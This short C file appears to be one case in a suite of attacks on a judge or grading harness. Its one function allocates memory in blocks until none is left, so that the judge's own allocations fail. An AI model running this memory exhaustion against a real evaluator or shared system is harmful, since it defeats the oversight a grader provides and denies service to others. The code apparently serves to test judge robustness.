/* 02_softmax: takes all memory in small blocks, until the judge's own calls find none. */
#include "attack.h"

static bool attack(void)
{
    long blocks = 0;
    for (char *p; blocks < 3 << 13 && (p = malloc(1 << 16)); blocks++)
        memset(p, 1, 1 << 16);
    while (blocks < 3 << 13 && malloc(64))
        ;
    return blocks == 3 << 13;
}
